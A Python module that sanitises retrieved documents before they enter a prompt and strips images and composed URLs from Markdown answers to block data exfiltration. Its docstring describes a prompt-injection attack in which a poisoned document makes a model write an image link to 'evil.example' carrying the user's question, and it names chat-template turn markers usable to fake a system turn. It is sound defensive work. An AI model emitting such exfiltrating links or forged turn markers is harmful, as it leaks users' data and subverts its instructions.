"""Text that came from documents, made harmless: in a prompt, and in what a user's screen renders.

**In a prompt** (`defuse`): a document, a table cell or an entity name is quoted inside a
`<source>` fence. It must not be able to close that fence, open a fake one, or write a chat
template's own turn markers (`<|im_start|>system`, `<|start_header_id|>`, `<start_of_turn>`,
`[INST]`, `<s>`), which a tokenizer reads as the real special tokens and the model as a new
system or user turn. So every `<` that could open a tag or a marker becomes `&lt;`, and the
`[INST]`-style markers lose their brackets; a `<` in "a < b" or "x<5" stays.

**In what is shown** (`neutralise`): an answer rendered as Markdown (Open WebUI, Dify, a chat
page) fetches every image as it renders, with no click: a model that read a poisoned document
can be told to write `![](https://evil.example/p.png?q=<what the user asked>)`, and the reader's
browser sends the data away. The rule, the same for every output:

- an image is never shown: `![alt](url)` becomes `[image: alt]`, an HTML tag (`<img src=…>`)
  is escaped to text;
- a link is plain text, `text (url)`, and its URL is kept only where it appears word for word in
  the sources the answer was given (so a document's own link survives); any other URL (one the
  model composed, where data would be smuggled) is cut to its host: `text (evil.example)`;
- a bare URL follows the same rule (renderers turn them into links);
- control characters go (a terminal would run `ESC ]…` sequences a document smuggled in).

Retrieved text (a hit, a citation, a Dify record) is the document itself, so its own URLs are
the known ones: its links stay visible as plain text, its images go.

`LinkGuard` applies `neutralise` to an answer streamed in pieces: it holds back the tail that
could still become a link, an image, a tag or a URL, so no piece shown ever holds half of one.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from urllib.parse import urlsplit

#: `<` that opens a tag, a fence or a chat-template marker: `<source`, `</`, `<|`, `<｜`, `<!`, `<?`
_TAG_START = re.compile(r"<(?=[A-Za-z/|｜!?])")
#: bracketed template markers: [INST], [/INST], [SYSTEM_PROMPT], [TOOL_CALLS], <<SYS>> is a tag above
_BRACKET_MARKER = re.compile(r"\[(/?[A-Z][A-Z_]{2,})\]")

_IMAGE = re.compile(r"!\[([^\]\n]*)\](?:\(([^)\n]*)\))?")
_LINK = re.compile(r"\[([^\]\n]*)\]\(\s*<?([^)\s>]*)>?[^)\n]*\)")
_AUTOLINK = re.compile(r"<((?:[A-Za-z][A-Za-z0-9+.-]*:|www\.)[^>\s]*)>")
_BARE_URL = re.compile(r"\b(?:[A-Za-z][A-Za-z0-9+.-]*://|www\.)[^\s<>()\[\]]+")
#: a URL's trailing punctuation belongs to the sentence ("see https://x.org.")
_TRAILING = ".,;:!?'\""

_CONTROL = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f]")
#: the tail of a streamed answer that may still become a link, an image, a tag or a URL
_OPEN_TAIL = re.compile(r"(!?\[[^\]\n]*(?:\](?:\([^)\n]*)?)?|<(?:[A-Za-z/|｜!?][^>\n]*)?|\S+)$")
#: past this many characters held back, the tail is let out with its brackets made harmless
_MAX_HELD = 2000


def defuse(text: str) -> str:
    """`text` safe to quote in a prompt's `<source>` fence (see the module docstring)."""
    return _BRACKET_MARKER.sub(r"(\1)", _TAG_START.sub("&lt;", text))


def urls_in(texts: Iterable[str]) -> frozenset[str]:
    """Every URL written in `texts`: the ones an answer may show in full."""
    return frozenset(_strip(match.group(0)) for text in texts for match in _BARE_URL.finditer(text))


def neutralise(text: str, known_urls: Iterable[str] = ()) -> str:
    """`text` with no image, no live link and no composed URL (see the module docstring)."""
    known = frozenset(known_urls)

    def shown(url: str) -> str:
        url = url.strip()
        if url in known:
            return url
        parts = urlsplit(url if "://" in url else f"//{url}")
        return parts.hostname or "link removed"

    def image(match: re.Match[str]) -> str:
        alt = match.group(1).strip()
        return f"[image: {alt}]" if alt else "[image]"

    def link(match: re.Match[str]) -> str:
        label, url = match.group(1).strip(), match.group(2)
        return f"{label} ({shown(url)})" if url else label

    def bare(match: re.Match[str]) -> str:
        url = _strip(match.group(0))
        return shown(url) + match.group(0)[len(url) :]

    text = _IMAGE.sub(image, _CONTROL.sub("", text))
    text = _LINK.sub(link, text)
    text = _AUTOLINK.sub(lambda m: shown(m.group(1)), text)
    text = _TAG_START.sub("&lt;", text)
    # bare URLs last, outside what the rules above already wrote out
    return _BARE_URL.sub(bare, text)


def quoted(text: str) -> str:
    """Retrieved text as shown to a reader: its own URLs kept as plain text, images removed."""
    return neutralise(text, urls_in([text]))


def _strip(url: str) -> str:
    return url.rstrip(_TRAILING)


#: what may start a construct, and each construct complete
_STARTS = re.compile(r"!?\[|<")
_WHOLE = (_IMAGE, _LINK, _AUTOLINK, re.compile(r"\[[^\]\n]*\]"), re.compile(r"<(?![A-Za-z/|｜!?])"))


def _safe_cut(held: str) -> int:
    """Where `held` may be cut so that no link, image, tag or URL straddles the cut: before the
    open tail (a word, a bracket or a tag not yet closed), and before any construct that would
    end past that point (`[the guide](https://…` whose text had a space in it)."""
    tail = _OPEN_TAIL.search(held)
    cut = tail.start() if tail else len(held)
    for start in _STARTS.finditer(held, 0, cut):
        ends = [m.end() for whole in _WHOLE if (m := whole.match(held, start.start()))]
        if not ends or max(ends) > cut:
            return start.start()
    return cut


class LinkGuard:
    """`neutralise` over an answer that arrives in pieces: `feed` each piece and show what it
    returns, then show `flush()`. What comes out, joined, is `neutralise` of the whole text
    (save for a tail held past `_MAX_HELD` characters, let out with its brackets as parentheses)."""

    def __init__(self, known_urls: Iterable[str] = ()) -> None:
        self.known = frozenset(known_urls)
        self.held = ""

    def feed(self, piece: str) -> str:
        self.held += piece
        cut = _safe_cut(self.held)
        if len(self.held) - cut > _MAX_HELD:
            out = neutralise(self.held, self.known).replace("[", "(").replace("]", ")")
            self.held = ""
            return out
        ready, self.held = self.held[:cut], self.held[cut:]
        return neutralise(ready, self.known) if ready else ""

    def flush(self) -> str:
        out, self.held = neutralise(self.held, self.known), ""
        return out
